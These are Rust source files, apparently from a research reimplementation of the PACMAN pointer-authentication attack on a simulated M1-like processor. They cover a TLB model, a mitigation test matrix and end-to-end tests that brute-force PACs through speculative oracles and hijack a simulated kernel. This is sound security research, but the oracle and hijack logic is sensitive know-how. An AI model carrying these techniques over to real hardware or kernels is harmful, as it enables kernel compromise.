    /// iTLB hits (both worlds).
    pub itlb_hits: u64,
    /// iTLB misses (both worlds).
    pub itlb_misses: u64,
    /// User-world iTLB hits.
    pub itlb_user_hits: u64,
    /// User-world iTLB misses.
    pub itlb_user_misses: u64,
    /// User-world iTLB entry installs.
    pub itlb_user_fills: u64,
    /// User-world iTLB capacity evictions.
    pub itlb_user_evictions: u64,
    /// Kernel-world iTLB hits.
    pub itlb_kernel_hits: u64,
    /// Kernel-world iTLB misses.
    pub itlb_kernel_misses: u64,
    /// Kernel-world iTLB entry installs.
    pub itlb_kernel_fills: u64,
    /// Kernel-world iTLB capacity evictions.
    pub itlb_kernel_evictions: u64,
    /// L2 TLB hits.
    pub l2_hits: u64,
    /// L2 TLB misses (a full walk is required).
    pub l2_misses: u64,
    /// L2 TLB entry installs.
    pub l2_fills: u64,
    /// L2 TLB capacity evictions.
    pub l2_evictions: u64,
    /// Full page-table walks.
    pub walks: u64,
    /// iTLB victims migrated into the dTLB (the §7.3 backing-store path).
    pub itlb_to_dtlb_migrations: u64,
}

/// The full Figure 6 hierarchy.
#[derive(Clone, Debug)]
pub struct TlbHierarchy {
    itlb_user: Tlb,
    itlb_kernel: Tlb,
    dtlb: Tlb,
    l2: Tlb,
    /// One-entry fetch fast path: the last fetch lookup's world, vpn and
    /// entry, valid only while that entry is still the MRU way of its
    /// iTLB set. A fast-path hit performs exactly the counter updates the
    /// full scan would and promotes nothing (the entry is already MRU),
    /// so it is invisible to the simulation; any iTLB insert or flush
    /// clears it.
    fetch_fast: Option<(FetchWorld, u64, TlbEntry)>,
    /// One-entry data-side fast path with the same contract as
    /// `fetch_fast`: valid only while the entry is the dTLB set's MRU
    /// way; any dTLB insert or flush clears it.
    data_fast: Option<(u64, TlbEntry)>,
    /// Counters (public for experiment reporting).
    pub stats: TlbStats,
}

impl TlbHierarchy {
    /// Builds the hierarchy from per-structure parameters.
    pub fn new(itlb: TlbParams, dtlb: TlbParams, l2: TlbParams) -> Self {
        Self {
            itlb_user: Tlb::new(itlb),
            itlb_kernel: Tlb::new(itlb),
            dtlb: Tlb::new(dtlb),
            l2: Tlb::new(l2),
            fetch_fast: None,
            data_fast: None,
            stats: TlbStats::default(),
        }
    }

    fn itlb_mut(&mut self, world: FetchWorld) -> &mut Tlb {
        match world {
            FetchWorld::User => &mut self.itlb_user,
            FetchWorld::Kernel => &mut self.itlb_kernel,
        }
    }

    /// Shared-dTLB accessor (read-only; the probe primitives in the attack
    /// crate go through timed loads, not this).
    pub fn dtlb(&self) -> &Tlb {
        &self.dtlb
    }

    /// The private iTLB for a world (read-only).
    pub fn itlb(&self, world: FetchWorld) -> &Tlb {
        match world {
            FetchWorld::User => &self.itlb_user,
            FetchWorld::Kernel => &self.itlb_kernel,
        }
    }

    /// The shared L2 TLB (read-only).
    pub fn l2(&self) -> &Tlb {
        &self.l2
    }

    /// Data-side lookup for a load/store.
    pub fn lookup_data(&mut self, vpn: u64) -> DataLookup {
        if let Some((v, e)) = self.data_fast {
            if v == vpn {
                self.stats.dtlb_hits += 1;
                return DataLookup::DtlbHit(e);
            }
        }
        if let Some(e) = self.dtlb.lookup(vpn) {
            self.stats.dtlb_hits += 1;
            self.data_fast = Some((vpn, e));
            return DataLookup::DtlbHit(e);
        }
        self.stats.dtlb_misses += 1;
        if let Some(e) = self.l2.lookup(vpn) {
            self.stats.l2_hits += 1;
            self.dtlb_insert_counted(e);
            return DataLookup::L2Hit(e);
        }
        self.stats.l2_misses += 1;
        DataLookup::Miss
    }

    /// Installs a walked translation on the data side (L2 + dTLB).
    pub fn fill_data(&mut self, entry: TlbEntry) {
        self.stats.walks += 1;
        self.l2_insert_counted(entry);
        self.dtlb_insert_counted(entry);
    }

    /// Instruction-side lookup for a fetch at the given privilege.
    pub fn lookup_fetch(&mut self, world: FetchWorld, vpn: u64) -> FetchLookup {
        if let Some((w, v, e)) = self.fetch_fast {
            // Consecutive fetches overwhelmingly re-touch the same page;
            // the cached entry is still its set's MRU way, so the full
            // scan below would hit it without promotion.
            if w == world && v == vpn {
                self.count_itlb_hit(world);
                return FetchLookup::ItlbHit(e);
            }
        }
        if let Some(e) = self.itlb_mut(world).lookup(vpn) {
            self.count_itlb_hit(world);
            self.fetch_fast = Some((world, vpn, e));
            return FetchLookup::ItlbHit(e);
        }
        self.stats.itlb_misses += 1;
        match world {
            FetchWorld::User => self.stats.itlb_user_misses += 1,
            FetchWorld::Kernel => self.stats.itlb_kernel_misses += 1,
        }
        if let Some(e) = self.l2.lookup(vpn) {
            self.stats.l2_hits += 1;
            self.fill_itlb_with_migration(world, e);
            return FetchLookup::L2Hit(e);
        }
        self.stats.l2_misses += 1;
        FetchLookup::Miss
    }

    /// Installs a walked translation on the fetch side (L2 + iTLB, with
    /// victim migration into the dTLB).
    pub fn fill_fetch(&mut self, world: FetchWorld, entry: TlbEntry) {
        self.stats.walks += 1;
        self.l2_insert_counted(entry);
        self.fill_itlb_with_migration(world, entry);
    }

    #[inline]
    fn count_itlb_hit(&mut self, world: FetchWorld) {
        self.stats.itlb_hits += 1;
        match world {
            FetchWorld::User => self.stats.itlb_user_hits += 1,
            FetchWorld::Kernel => self.stats.itlb_kernel_hits += 1,
        }
    }

    /// The §7.3 behaviour: an iTLB fill whose victim is re-homed into the
    /// shared dTLB, where userspace Prime+Probe can see it.
    fn fill_itlb_with_migration(&mut self, world: FetchWorld, entry: TlbEntry) {
        // The insert reorders the set (and may replace the cached entry's
        // pfn/perms under the same vpn), so the fetch fast path dies.
        self.fetch_fast = None;
        let victim = self.itlb_mut(world).insert(entry);
        match world {
            FetchWorld::User => {
                self.stats.itlb_user_fills += 1;
                self.stats.itlb_user_evictions += u64::from(victim.is_some());
            }
            FetchWorld::Kernel => {
                self.stats.itlb_kernel_fills += 1;
                self.stats.itlb_kernel_evictions += u64::from(victim.is_some());
            }
        }
        if let Some(victim) = victim {
            self.stats.itlb_to_dtlb_migrations += 1;
            self.dtlb_insert_counted(victim);
        }
    }

    fn dtlb_insert_counted(&mut self, entry: TlbEntry) {
        // The insert reorders the set (and may replace the cached entry
        // in place), so the data fast path dies.
        self.data_fast = None;
        self.stats.dtlb_fills += 1;
        if self.dtlb.insert(entry).is_some() {
            self.stats.dtlb_evictions += 1;
        }
    }

    fn l2_insert_counted(&mut self, entry: TlbEntry) {
        self.stats.l2_fills += 1;
        if self.l2.insert(entry).is_some() {
            self.stats.l2_evictions += 1;
        }
    }

    /// Full hierarchy invalidate.
    pub fn flush(&mut self) {
        self.fetch_fast = None;
        self.data_fast = None;
        self.itlb_user.flush();
        self.itlb_kernel.flush();
        self.dtlb.flush();
        self.l2.flush();
    }

    /// Serialises all four structures plus the counters. The one-entry
    /// fast paths are not captured: their contract makes them invisible
    /// to the simulation, so a restore simply starts with them cold.
    pub fn save_state(&self, w: &mut pacman_telemetry::bin::Writer) {
        self.itlb_user.save_state(w);
        self.itlb_kernel.save_state(w);
        self.dtlb.save_state(w);
        self.l2.save_state(w);
        let s = &self.stats;
        for v in [
            s.dtlb_hits,
            s.dtlb_misses,
            s.dtlb_fills,
            s.dtlb_evictions,
            s.itlb_hits,
            s.itlb_misses,
            s.itlb_user_hits,
            s.itlb_user_misses,
            s.itlb_user_fills,
            s.itlb_user_evictions,
            s.itlb_kernel_hits,
            s.itlb_kernel_misses,
            s.itlb_kernel_fills,
            s.itlb_kernel_evictions,
            s.l2_hits,
            s.l2_misses,
            s.l2_fills,
            s.l2_evictions,
            s.walks,
            s.itlb_to_dtlb_migrations,
        ] {
            w.u64(v);
        }
    }

    /// Restores state written by [`TlbHierarchy::save_state`] into a
    /// hierarchy of identical geometry.
    ///
    /// # Errors
    ///
    /// [`pacman_telemetry::bin::BinError`] on truncation, corruption,
    /// or a geometry mismatch.
    pub fn restore_state(
        &mut self,
        r: &mut pacman_telemetry::bin::Reader<'_>,
    ) -> Result<(), pacman_telemetry::bin::BinError> {
        self.fetch_fast = None;
        self.data_fast = None;
        self.itlb_user.restore_state(r)?;
        self.itlb_kernel.restore_state(r)?;
        self.dtlb.restore_state(r)?;
        self.l2.restore_state(r)?;
        let s = &mut self.stats;
        for v in [
            &mut s.dtlb_hits,
            &mut s.dtlb_misses,
            &mut s.dtlb_fills,
            &mut s.dtlb_evictions,
            &mut s.itlb_hits,
            &mut s.itlb_misses,
            &mut s.itlb_user_hits,
            &mut s.itlb_user_misses,
            &mut s.itlb_user_fills,
            &mut s.itlb_user_evictions,
            &mut s.itlb_kernel_hits,
            &mut s.itlb_kernel_misses,
            &mut s.itlb_kernel_fills,
            &mut s.itlb_kernel_evictions,
            &mut s.l2_hits,
            &mut s.l2_misses,
            &mut s.l2_fills,
            &mut s.l2_evictions,
            &mut s.walks,
            &mut s.itlb_to_dtlb_migrations,
        ] {
            *v = r.u64()?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(vpn: u64) -> TlbEntry {
        TlbEntry { vpn, pfn: vpn + 1000, perms: Perms::kernel_rwx() }
    }

    fn small_hierarchy() -> TlbHierarchy {
        TlbHierarchy::new(
            TlbParams { ways: 2, sets: 4 },
            TlbParams { ways: 3, sets: 8 },
            TlbParams { ways: 4, sets: 16 },
        )
    }

    #[test]
    fn tlb_lru_and_eviction() {
        let mut t = Tlb::new(TlbParams { ways: 2, sets: 4 });
        // vpns 0, 4, 8 all map to set 0.
        assert!(t.insert(entry(0)).is_none());
        assert!(t.insert(entry(4)).is_none());
        let victim = t.insert(entry(8)).expect("set overflow evicts");
        assert_eq!(victim.vpn, 0);
        assert!(t.contains(4) && t.contains(8) && !t.contains(0));
    }

    #[test]
    fn lookup_promotes_to_mru() {
        let mut t = Tlb::new(TlbParams { ways: 2, sets: 4 });
        t.insert(entry(0));
        t.insert(entry(4));
        assert!(t.lookup(0).is_some());
        let victim = t.insert(entry(8)).unwrap();
        assert_eq!(victim.vpn, 4, "entry 0 was refreshed, 4 is LRU");
    }

    #[test]
    fn reinsert_replaces_in_place() {
        let mut t = Tlb::new(TlbParams { ways: 2, sets: 4 });
        t.insert(entry(0));
        let mut e = entry(0);
        e.pfn = 77;
        assert!(t.insert(e).is_none());
        assert_eq!(t.lookup(0).unwrap().pfn, 77);
        assert_eq!(t.occupancy(0), 1);
    }

    #[test]
    fn data_lookup_fills_from_l2() {
        let mut h = small_hierarchy();
        h.fill_data(entry(5));
        // Knock it out of the dTLB only.
        assert!(h.dtlb.contains(5));
        h.dtlb.invalidate(5);
        assert_eq!(h.lookup_data(5), DataLookup::L2Hit(entry(5)));
        // Now it is back in the dTLB.
        assert_eq!(h.lookup_data(5), DataLookup::DtlbHit(entry(5)));
    }

    #[test]
    fn data_miss_requires_walk() {
        let mut h = small_hierarchy();
        assert_eq!(h.lookup_data(9), DataLookup::Miss);
        h.fill_data(entry(9));
        assert_eq!(h.lookup_data(9), DataLookup::DtlbHit(entry(9)));
    }

    #[test]
    fn itlbs_are_private_per_world() {
        let mut h = small_hierarchy();
        h.fill_fetch(FetchWorld::Kernel, entry(3));
        assert!(h.itlb(FetchWorld::Kernel).contains(3));
        assert!(!h.itlb(FetchWorld::User).contains(3));
        // A user fetch of the same page misses its own iTLB and refills
        // from L2.
        assert_eq!(h.lookup_fetch(FetchWorld::User, 3), FetchLookup::L2Hit(entry(3)));
        assert!(h.itlb(FetchWorld::User).contains(3));
    }

    #[test]
    fn itlb_resident_entry_is_invisible_to_loads() {
        // §7.3: an entry only in the iTLB (and L2) does not hit on the
        // data side — loads must go to the L2 TLB.
        let mut h = small_hierarchy();
        h.fill_fetch(FetchWorld::Kernel, entry(7));
        assert!(!h.dtlb().contains(7));
        assert_eq!(h.lookup_data(7), DataLookup::L2Hit(entry(7)));
    }

    #[test]
    fn itlb_eviction_migrates_victim_into_dtlb() {
        // §7.3: filling an iTLB set past its associativity re-homes the
        // LRU entry into the shared dTLB. This is the mechanism the
        // instruction-gadget PoC (§8.1) depends on.
        let mut h = small_hierarchy();
        // iTLB: 2 ways, 4 sets; vpns 0,4,8 share iTLB set 0.
        h.fill_fetch(FetchWorld::Kernel, entry(0));
        h.fill_fetch(FetchWorld::Kernel, entry(4));
        assert!(!h.dtlb().contains(0));
        h.fill_fetch(FetchWorld::Kernel, entry(8)); // evicts vpn 0
        assert!(h.dtlb().contains(0), "victim must appear in the shared dTLB");
        assert_eq!(h.stats.itlb_to_dtlb_migrations, 1);
        // And it is now visible to loads as a dTLB hit.
        assert_eq!(h.lookup_data(0), DataLookup::DtlbHit(entry(0)));
    }

    #[test]
    fn flush_clears_everything() {
        let mut h = small_hierarchy();
        h.fill_data(entry(1));
        h.fill_fetch(FetchWorld::User, entry(2));
        h.flush();
        assert_eq!(h.lookup_data(1), DataLookup::Miss);
        assert_eq!(h.lookup_fetch(FetchWorld::User, 2), FetchLookup::Miss);
    }

    #[test]
    fn stats_count_hits_and_misses() {
        let mut h = small_hierarchy();
        h.fill_data(entry(1));
        let _ = h.lookup_data(1); // hit
        let _ = h.lookup_data(2); // miss (walk not performed)
        assert_eq!(h.stats.dtlb_hits, 1);
        assert_eq!(h.stats.dtlb_misses, 1);
        assert_eq!(h.stats.walks, 1);
        assert_eq!(h.stats.l2_misses, 1, "the full miss also missed L2");
        assert_eq!(h.stats.dtlb_fills, 1);
        assert_eq!(h.stats.l2_fills, 1);
    }

    #[test]
    fn save_restore_round_trips_the_hierarchy() {
        let mut h = small_hierarchy();
        h.fill_fetch(FetchWorld::Kernel, entry(0));
        h.fill_fetch(FetchWorld::Kernel, entry(4));
        h.fill_fetch(FetchWorld::Kernel, entry(8)); // migrates vpn 0 into dTLB
        h.fill_data(entry(9));
        let _ = h.lookup_data(9);
        let mut w = pacman_telemetry::bin::Writer::new();
        h.save_state(&mut w);
        let bytes = w.into_bytes();
        let mut fresh = small_hierarchy();
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        fresh.restore_state(&mut r).unwrap();
        assert!(r.is_done());
        assert_eq!(fresh.stats, h.stats);
        assert!(fresh.dtlb().contains(0), "migrated victim survives the round trip");
        assert!(fresh.itlb(FetchWorld::Kernel).contains(8));
        assert_eq!(fresh.lookup_data(9), DataLookup::DtlbHit(entry(9)));
        // Geometry mismatch is corruption, not a panic.
        let mut wrong = TlbHierarchy::new(
            TlbParams { ways: 2, sets: 8 },
            TlbParams { ways: 3, sets: 8 },
            TlbParams { ways: 4, sets: 16 },
        );
        let mut r = pacman_telemetry::bin::Reader::new(&bytes);
        assert!(wrong.restore_state(&mut r).is_err());
    }

    #[test]
    fn stats_split_itlb_worlds_and_count_evictions() {
        let mut h = small_hierarchy();
        h.fill_fetch(FetchWorld::Kernel, entry(0));
        h.fill_fetch(FetchWorld::User, entry(0));
        let _ = h.lookup_fetch(FetchWorld::Kernel, 0); // kernel hit
        let _ = h.lookup_fetch(FetchWorld::User, 1); // user miss (L2 miss too)
        assert_eq!(h.stats.itlb_kernel_hits, 1);
        assert_eq!(h.stats.itlb_user_hits, 0);
        assert_eq!(h.stats.itlb_user_misses, 1);
        assert_eq!(h.stats.itlb_kernel_misses, 0);
        assert_eq!(h.stats.itlb_kernel_fills, 1);
        assert_eq!(h.stats.itlb_user_fills, 1);
        // Overflow kernel iTLB set 0 (2 ways; vpns 0,4,8 share it).
        h.fill_fetch(FetchWorld::Kernel, entry(4));
        h.fill_fetch(FetchWorld::Kernel, entry(8));
        assert_eq!(h.stats.itlb_kernel_evictions, 1);
        assert_eq!(h.stats.itlb_user_evictions, 0);
        // The migrated victim counts as a dTLB fill.
        assert_eq!(h.stats.itlb_to_dtlb_migrations, 1);
        assert!(h.stats.dtlb_fills >= 1);
    }
}
