//! A minimal multiply-xor hasher for hot-path hash maps keyed by small
//! integer tuples (the PAC memo). The default SipHash costs more than
//! the lookups it guards on these paths, and HashDoS resistance buys
//! nothing for host-side memo tables fed by the simulation itself.

use std::hash::{BuildHasherDefault, Hasher};

/// Multiply-xor word hasher (FxHash-style).
#[derive(Default)]
pub(crate) struct FxHasher(u64);

/// Build-hasher alias for [`FxHasher`]-keyed maps.
pub(crate) type FxBuild = BuildHasherDefault<FxHasher>;

const SEED: u64 = 0x517c_c1b7_2722_0a95;

impl Hasher for FxHasher {
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.write_u64(u64::from(b));
        }
    }

    fn write_u64(&mut self, n: u64) {
        self.0 = (self.0.rotate_left(5) ^ n).wrapping_mul(SEED);
    }

    fn write_u128(&mut self, n: u128) {
        self.write_u64(n as u64);
        self.write_u64((n >> 64) as u64);
    }

    fn write_u32(&mut self, n: u32) {
        self.write_u64(u64::from(n));
    }

    fn write_u8(&mut self, n: u8) {
        self.write_u64(u64::from(n));
    }

    fn write_usize(&mut self, n: usize) {
        self.write_u64(n as u64);
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    #[test]
    fn distinct_tuples_hash_apart_and_round_trip() {
        let mut m: HashMap<(u128, u64, u64), u16, FxBuild> = HashMap::default();
        for i in 0..1000u64 {
            m.insert((u128::from(i) << 64, i, i ^ 7), i as u16);
        }
        assert_eq!(m.len(), 1000);
        for i in 0..1000u64 {
            assert_eq!(m.get(&(u128::from(i) << 64, i, i ^ 7)), Some(&(i as u16)));
        }
    }
}
