//! An Apple-M1-like speculative microarchitecture model.
//!
//! The PACMAN paper (ISCA 2022) demonstrates its attack on the M1 SoC.
//! This crate is the workspace's stand-in for that hardware: a
//! cycle-costed simulator of one performance core with
//!
//! - the Table 2 cache hierarchy and the Figure 6 TLB hierarchy
//!   (privilege-split L1 iTLBs, a shared L1 dTLB that doubles as the
//!   iTLBs' non-inclusive backing store, a shared L2 TLB);
//! - 16 KB paging with 48-bit virtual addresses and real page-table walks
//!   over simulated physical memory;
//! - a bimodal conditional predictor, a BTB, and a speculative execution
//!   engine with bounded wrong-path execution, suppressed speculative
//!   faults, and **eager squash of nested branches** — the Figure 3
//!   machinery every PACMAN gadget depends on;
//! - ARMv8.3 Pointer Authentication backed by QARMA-64, with the five key
//!   registers, EL0/EL1 privilege separation, and corrupt-on-failure
//!   semantics;
//! - the Table 1 timers: the coarse 24 MHz system counter, the EL1-gated
//!   `PMC0` cycle counter, and the userspace multi-thread timer of §6.1;
//! - the §9 mitigations as configuration switches, applied at the exact
//!   pipeline points the paper discusses.
//!
//! # Example
//!
//! ```
//! use pacman_uarch::{Machine, MachineConfig, Perms};
//!
//! let mut m = Machine::new(MachineConfig::default());
//! m.map_page(0x40_0000, Perms::user_rw());
//! // A cold access walks the page tables; a hot one hits the dTLB.
//! let cold = m.timed_user_load(0x40_0000)?;
//! let hot = m.timed_user_load(0x40_0000)?;
//! assert!(hot < cold);
//! # Ok::<(), pacman_uarch::Trap>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod block_cache;
pub mod cache;
pub mod config;
pub mod cpu;
mod fasthash;
pub mod machine;
pub mod mem;
pub mod paging;
pub mod predict;
pub mod profiler;
pub mod timer;
pub mod tlb;
pub mod trace;

pub use block_cache::{BlockCache, BlockCacheStats};
pub use cache::{Cache, CacheParams, CacheStats};
pub use config::{
    ClusterCaches, ClusterTlbs, ConfigError, CoreKind, ExecEngine, InjectedBugs, LatencyModel,
    MachineConfig, Mitigation, SquashPolicy,
};
pub use cpu::{AccessKind, Cpu, El, Trap};
pub use machine::{AccessOutcome, CacheHit, Machine, MachineStats, MemorySystem, Stop, TlbHit};
pub use mem::{FramePool, PhysMemory};
pub use paging::{PageTables, Perms};
pub use predict::{Bimodal, Btb, PredictStats, Rsb};
pub use profiler::{Phase, Profiler};
pub use timer::{Timers, TimingSource};
pub use tlb::{FetchWorld, Tlb, TlbEntry, TlbHierarchy, TlbParams, TlbStats};
pub use trace::{SpecEvent, SpecTrace};
