//! Cross-product sanity: every oracle channel against every mitigation.
//!
//! §9's defences act on the *gadget*, not on a particular side channel,
//! so they must blind the data, instruction and cache-channel oracles
//! alike — otherwise an attacker would simply switch channels.

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::attack::cache_probe::quiet_target_offset;
use pacman::prelude::*;
use pacman::uarch::Mitigation;

fn boot(mitigation: Mitigation) -> System {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    cfg.machine.mitigation = mitigation;
    System::boot(cfg)
}

/// Whether an oracle distinguishes the true PAC from wrong ones on `sys`.
fn works(sys: &mut System, oracle: &mut dyn PacOracle, target: u64) -> bool {
    let true_pac = sys.true_pac(target);
    let mut good = 0;
    let mut bad = 0;
    for i in 0..3u16 {
        if oracle.test_pac(sys, target, true_pac).expect("trial").is_correct() {
            good += 1;
        }
        if oracle.test_pac(sys, target, true_pac ^ (1 + i)).expect("trial").is_correct() {
            bad += 1;
        }
    }
    good >= 2 && bad <= 1
}

fn matrix_row(mitigation: Mitigation, expect_works: bool) {
    // Data-gadget oracle over the dTLB.
    let mut sys = boot(mitigation);
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let mut data = DataPacOracle::new(&mut sys).expect("oracle");
    assert_eq!(
        works(&mut sys, &mut data, target),
        expect_works,
        "data/dTLB oracle under {mitigation:?}"
    );
    assert_eq!(sys.kernel.crash_count(), 0);

    // Instruction-gadget oracle over the dTLB (via jump pads).
    let mut sys = boot(mitigation);
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let mut instr = InstrPacOracle::new(&mut sys).expect("oracle");
    assert_eq!(
        works(&mut sys, &mut instr, target),
        expect_works,
        "instr/dTLB oracle under {mitigation:?}"
    );
    assert_eq!(sys.kernel.crash_count(), 0);

    // Data-gadget oracle over the L1D cache channel.
    let mut sys = boot(mitigation);
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set) + quiet_target_offset();
    let mut cache = CacheDataPacOracle::new(&mut sys).expect("oracle");
    assert_eq!(
        works(&mut sys, &mut cache, target),
        expect_works,
        "data/L1D-cache oracle under {mitigation:?}"
    );
    assert_eq!(sys.kernel.crash_count(), 0);
}

#[test]
fn baseline_all_channels_work() {
    matrix_row(Mitigation::None, true);
}

#[test]
fn fence_after_aut_blinds_all_channels() {
    matrix_row(Mitigation::FenceAfterAut, false);
}

#[test]
fn non_speculative_aut_blinds_all_channels() {
    matrix_row(Mitigation::NonSpeculativeAut, false);
}

#[test]
fn taint_tracking_blinds_all_channels() {
    matrix_row(Mitigation::TaintAutOutputs, false);
}

#[test]
fn delay_on_miss_blinds_all_channels() {
    matrix_row(Mitigation::DelayOnMiss, false);
}
