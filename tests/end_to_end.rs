//! Cross-crate integration: the full attack pipeline, end to end.

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::isa::PacKey;
use pacman::kernel::kext::cpp::WIN_MAGIC;
use pacman::prelude::*;

fn quiet() -> SystemConfig {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    cfg
}

#[test]
fn oracle_brute_force_recovers_a_pac_without_crashes() {
    let mut sys = System::boot(quiet());
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);

    let oracle = DataPacOracle::new(&mut sys).expect("oracle setup").with_samples(3);
    let mut bf = BruteForcer::new(oracle);
    let window_start = true_pac.wrapping_sub(16);
    let outcome = bf
        .brute(&mut sys, target, (0..64u16).map(|i| window_start.wrapping_add(i)))
        .expect("brute force runs");
    assert_eq!(outcome.found, Some(true_pac));
    assert_eq!(outcome.crashes, 0);
    assert_eq!(
        BruteForcer::<DataPacOracle>::classify(&outcome, true_pac),
        BruteVerdict::TruePositive
    );
}

#[test]
fn instruction_oracle_brute_force_also_works() {
    let mut sys = System::boot(quiet());
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);

    let oracle = InstrPacOracle::new(&mut sys).expect("oracle setup").with_samples(3);
    let mut bf = BruteForcer::new(oracle);
    let outcome = bf
        .brute(&mut sys, target, (0..16u16).map(|i| true_pac.wrapping_sub(4).wrapping_add(i)))
        .expect("brute force runs");
    assert_eq!(outcome.found, Some(true_pac));
    assert_eq!(outcome.crashes, 0);
}

#[test]
fn jump2win_hijacks_the_kernel_without_a_single_crash() {
    let mut sys = System::boot(quiet());
    let t_ia = sys.true_pac_with_salt(PacKey::Ia, sys.cpp.win_fn);
    let t_da = sys.true_pac_with_salt(PacKey::Da, sys.cpp.obj1);

    let mut driver = Jump2Win::new().with_samples(3).with_train_iters(8);
    driver.phase_windows = Some([(t_ia.wrapping_sub(5), 16), (t_da.wrapping_sub(5), 16)]);
    let report = driver.run(&mut sys).expect("attack succeeds");

    assert!(report.hijacked, "win() must have executed at EL1");
    assert_eq!(report.crashes, 0, "PACMAN must be crash-free");
    assert_eq!(report.pac_win, t_ia);
    assert_eq!(report.pac_vtable, t_da);
    assert_eq!(sys.cpp.flag_value(&sys.machine), WIN_MAGIC);
}

#[test]
fn naive_brute_force_crashes_and_never_wins() {
    // The security-by-crash baseline PACMAN defeats: guessing PACs
    // architecturally panics the kernel on every wrong guess, and each
    // reboot renews the keys, so progress is impossible.
    let mut sys = System::boot(quiet());
    let target = sys.cpp.win_fn;
    let mut crashes = 0;
    for guess in 0..8u16 {
        // Overflow object2's vtable pointer with an unauthenticated
        // fake, then dispatch — the paper's "simple bruteforcing".
        let fake = pacman::isa::ptr::with_pac_field(target, guess);
        let mut payload = vec![0u8; 56];
        payload[0..8].copy_from_slice(&fake.to_le_bytes());
        payload[48..56]
            .copy_from_slice(&pacman::isa::ptr::with_pac_field(sys.cpp.obj1, guess).to_le_bytes());
        let buf = sys.write_payload(&payload);
        sys.kernel
            .syscall(&mut sys.machine, sys.cpp.overflow, &[buf, 56])
            .expect("overflow syscall itself is fine");
        if sys.kernel.syscall(&mut sys.machine, sys.cpp.dispatch, &[0, 0]).is_err() {
            crashes += 1;
            // A reboot invalidated every PAC; re-construct the victim
            // object graph (as the restarted service would).
            sys.cpp.initialize_objects(&mut sys.kernel, &mut sys.machine);
        }
    }
    assert_eq!(crashes, 8, "every architectural wrong guess must panic the kernel");
    assert_eq!(sys.kernel.crash_count(), 8);
    assert_ne!(sys.cpp.flag_value(&sys.machine), WIN_MAGIC);
}

#[test]
fn oracle_verdicts_survive_os_noise_with_sampling() {
    // §8.2 protocol under noise: median-of-5, no false positives across a
    // spread of wrong guesses.
    let mut sys = System::boot(SystemConfig::default()); // noise on
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let mut oracle = DataPacOracle::new(&mut sys).expect("oracle").with_samples(5);

    assert!(oracle.test_pac(&mut sys, target, true_pac).expect("trial").is_correct());
    for i in 1..=10u16 {
        let wrong = true_pac ^ (i * 257);
        let v = oracle.test_pac(&mut sys, target, wrong).expect("trial");
        assert!(!v.is_correct(), "false positive at {wrong:#x}: {v:?}");
    }
    assert_eq!(sys.kernel.crash_count(), 0);
}

#[test]
fn keys_change_across_boots_and_so_do_pacs() {
    let mut cfg1 = quiet();
    cfg1.kernel_seed = 1;
    let mut cfg2 = quiet();
    cfg2.kernel_seed = 2;
    let mut sys1 = System::boot(cfg1);
    let mut sys2 = System::boot(cfg2);
    let t1 = sys1.alloc_target(9);
    let t2 = sys2.alloc_target(9);
    assert_eq!(t1, t2, "same layout across boots");
    assert_ne!(sys1.true_pac(t1), sys2.true_pac(t2), "per-boot keys must change PACs");
}

#[test]
fn deterministic_given_seeds() {
    let run = || {
        let mut sys = System::boot(quiet());
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).expect("oracle");
        let v1 = oracle.test_pac(&mut sys, target, true_pac).expect("trial");
        let v2 = oracle.test_pac(&mut sys, target, true_pac ^ 1).expect("trial");
        (true_pac, v1.median_misses, v2.median_misses, sys.machine.cycles)
    };
    assert_eq!(run(), run(), "identical seeds must give identical runs");
}
