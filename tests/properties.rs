//! Property-based tests over the core data structures and invariants.

use pacman::isa::ptr::{
    authenticate, canonicalize, is_canonical, pac_field, sign, with_pac_field, VirtualAddress,
};
use pacman::isa::{decode, encode, Asm, Cond, Inst, PacKey, PacModifier, Reg, SysReg};
use pacman::qarma::{PacComputer, Qarma64, QarmaKey};
use pacman::uarch::{Tlb, TlbEntry, TlbParams};
use proptest::prelude::*;

fn arb_reg() -> impl Strategy<Value = Reg> {
    (0u8..33).prop_map(|i| Reg::from_index(i).expect("index < 33"))
}

fn arb_key() -> impl Strategy<Value = PacKey> {
    (0u8..4).prop_map(|i| PacKey::from_index(i).expect("index < 4"))
}

fn arb_inst() -> impl Strategy<Value = Inst> {
    prop_oneof![
        Just(Inst::Nop),
        Just(Inst::Isb),
        Just(Inst::Ret),
        Just(Inst::Eret),
        Just(Inst::Hlt),
        any::<u16>().prop_map(|imm| Inst::Svc { imm }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovZ {
            rd,
            imm,
            shift
        }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovK {
            rd,
            imm,
            shift
        }),
        (arb_reg(), arb_reg()).prop_map(|(rd, rn)| Inst::MovReg { rd, rn }),
        (arb_reg(), arb_reg(), 0u16..4096).prop_map(|(rd, rn, imm)| Inst::AddImm { rd, rn, imm }),
        (arb_reg(), arb_reg(), arb_reg()).prop_map(|(rd, rn, rm)| Inst::SubReg { rd, rn, rm }),
        (arb_reg(), arb_reg(), arb_reg()).prop_map(|(rd, rn, rm)| Inst::EorReg { rd, rn, rm }),
